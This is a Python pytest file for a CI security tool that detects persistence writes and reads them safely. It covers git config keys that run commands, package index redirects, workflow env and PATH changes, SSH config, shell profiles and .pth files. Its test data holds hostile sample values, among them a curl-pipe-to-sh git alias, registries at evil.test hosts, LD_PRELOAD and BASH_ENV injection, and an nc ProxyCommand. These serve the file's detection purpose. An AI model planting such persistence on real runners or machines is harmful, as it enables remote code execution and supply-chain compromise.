"""Persistence places: what counts as a write that runs later, and reading them safely."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from cujo_action.boundary import fingerprints, read_below
from cujo_action.persistence import (
    Entry,
    changes,
    env_commands,
    git_config_runs,
    index_redirect,
    owner,
    path_commands,
    places,
    ssh_commands,
)
from cujo_action.schema import GIT_HOOK_WRITE, PYTHON_STARTUP_WRITE, SHELL_PROFILE_WRITE

PLACES = places("work/app/app", {"GITHUB_ENV": "work/_temp/env", "GITHUB_PATH": "work/_temp/path"})


def git_written(tmp_path: Path, *settings: tuple[str, str]) -> str:
    """Return a config file as git itself writes it (the oracle for the parser)."""
    config = tmp_path / "config"
    config.unlink(missing_ok=True)
    for key, value in settings:
        subprocess.run(["git", "config", "-f", str(config), key, value], check=True)
    return config.read_text()


@pytest.mark.parametrize(
    "key",
    [
        "core.hooksPath",
        "core.fsmonitor",
        "core.sshCommand",
        "core.pager",
        "alias.st",
        "filter.lfs.smudge",
        "diff.tool.textconv",
        "credential.https://github.com.helper",
        "includeIf.gitdir:~/work/.path",
        "gpg.ssh.program",
    ],
)
def test_a_git_config_gaining_a_key_git_runs_counts(tmp_path: Path, key: str) -> None:
    before = git_written(tmp_path, ("user.name", "ci"))
    after = git_written(tmp_path, ("user.name", "ci"), (key, "!sh -c 'curl x | sh'"))
    why = git_config_runs(before, after)
    assert why is not None, (key, after)
    assert key.rsplit(".", maxsplit=1)[-1].lower() in why.lower()


def test_a_git_config_gaining_only_data_does_not_count(tmp_path: Path) -> None:
    before = git_written(tmp_path, ("core.hooksPath", "/usr/share/hooks"))
    after = git_written(
        tmp_path,
        ("core.hooksPath", "/usr/share/hooks"),
        ("user.email", "t@example.test"),
        ("init.defaultBranch", "main"),
        ("remote.upstream.url", "https://github.com/o/r"),
    )
    assert git_config_runs(before, after) is None  # the hooksPath was there already
    assert git_config_runs(None, git_written(tmp_path, ("user.name", "x"))) is None
    changed = git_written(tmp_path, ("core.hooksPath", "/home/runner/.h"))
    assert git_config_runs(before, changed) == "gained core.hookspath = /home/runner/.h"


def test_package_index_configs_are_read_as_their_tools_read_them() -> None:
    pip = "[global]\nextra-index-url =\n    https://pypi.org/simple\n    https://pypi.evil.test/s\n"
    assert index_redirect(None, pip) == "now points at pypi.evil.test"
    assert index_redirect(None, "[global]\nindex-url = https://pypi.org/simple\n") is None
    yarn = 'npmRegistryServer: "https://yarn.evil.test"\n'
    assert index_redirect(None, yarn) == "now points at yarn.evil.test"
    uv = '[[index]]\nname = "corp"\nurl = "https://uv.evil.test/simple"\n'
    assert index_redirect(None, uv) == "now points at uv.evil.test"
    npmrc = "@myorg:registry=https://npm.pkg.github.com/\n"
    assert index_redirect(npmrc, npmrc + "registry=https://registry.npmjs.org/\n") is None
    assert index_redirect(npmrc, npmrc + "@x:registry=https://x.evil.test\n") == (
        "now points at x.evil.test"
    )


def test_workflow_commands_that_change_later_steps_count() -> None:
    assert env_commands("", "VERSION=1\nLD_PRELOAD=/x.so\n") == "sets LD_PRELOAD for later steps"
    assert env_commands("", "BODY<<EOF\nPATH=/x\nEOF\n") is None  # a value's line, not a name
    assert env_commands("", "BODY<<EOF\nx\nEOF\nBASH_ENV=/x\n") == "sets BASH_ENV for later steps"
    assert env_commands("", "VERSION=1\n") is None
    assert path_commands("", "/home/runner/.x/bin\n") == (
        "puts /home/runner/.x/bin first on later steps' PATH"
    )
    assert ssh_commands("Host *\n", "Host *\n  ProxyCommand nc %h %p\n") == "gained proxycommand"


def test_each_path_belongs_to_its_most_specific_place() -> None:
    assert owner("~/.bashrc", PLACES).kind == SHELL_PROFILE_WRITE  # type: ignore[union-attr]
    site = "~/.local/lib/python3.12/site-packages"
    assert owner(f"{site}/x.pth", PLACES).kind == PYTHON_STARTUP_WRITE  # type: ignore[union-attr]
    assert owner(f"{site}/pkg/x.pth", PLACES) is None  # a package's own file
    assert owner(f"{site}/x.py", PLACES) is None
    hook = owner("~/work/app/app/.git/hooks/pre-commit", PLACES)
    assert hook is not None
    assert hook.kind == GIT_HOOK_WRITE
    assert owner("~/.cache/pip/x", PLACES) is None


def test_changes_report_creations_deletions_and_judged_changes_in_path_order() -> None:
    before = {"~/.bashrc": Entry("a"), "~/.gitconfig": Entry("g1", "[user]\n\tname = a\n")}
    after = {
        "~/.bashrc": Entry("b"),
        "~/.gitconfig": Entry("g2", "[user]\n\tname = b\n"),
        "~/.zshrc": Entry("z"),
    }
    found = changes(before, after, PLACES)
    assert [(c.kind, c.detail) for c in found] == [
        (SHELL_PROFILE_WRITE, "~/.bashrc was changed"),
        (SHELL_PROFILE_WRITE, "~/.zshrc was created"),
    ]
    assert changes(after, {}, PLACES)[0].detail == "~/.bashrc was deleted"


# --------------------------------------------------------------------------- reading safely


def test_reading_a_place_follows_no_planted_link_and_reads_no_fifo(tmp_path: Path) -> None:
    # After pull-request code ran, root reads these files' text: a link planted in their
    # place, or anywhere on the way, must never lead it to another file.
    secret = tmp_path / "root-only"
    secret.write_text("root's secret\n")
    home = tmp_path / "home"
    (home / ".config" / "pip").mkdir(parents=True)
    (home / ".gitconfig").symlink_to(secret)
    assert read_below(home, ".gitconfig", 1024) is None
    (home / ".config" / "git").symlink_to(tmp_path)
    assert read_below(home, ".config/git/root-only", 1024) is None
    os.mkfifo(home / ".npmrc")  # would block a plain open for ever
    assert read_below(home, ".npmrc", 1024) is None
    (home / ".config" / "pip" / "pip.conf").write_text("[global]\n" + "x" * 5000)
    assert read_below(home, ".config/pip/pip.conf", 100) == b"[global]\n" + b"x" * 91
    with pytest.raises(ValueError, match="relative"):
        read_below(home, "../root-only", 1024)


def test_fingerprints_go_only_as_deep_as_asked(tmp_path: Path) -> None:
    site = tmp_path / "lib" / "python3.12" / "site-packages"
    (site / "pkg").mkdir(parents=True)
    (site / "a.pth").write_text("import x\n")
    (site / "pkg" / "mod.py").write_text("x = 1\n")
    (site / "link").symlink_to(tmp_path)
    shallow = fingerprints(tmp_path, ["lib"], depth=2)
    assert set(shallow) == {
        "lib/python3.12/site-packages/a.pth",
        "lib/python3.12/site-packages/link",
    }
    assert "lib/python3.12/site-packages/pkg/mod.py" in fingerprints(tmp_path, ["lib"])
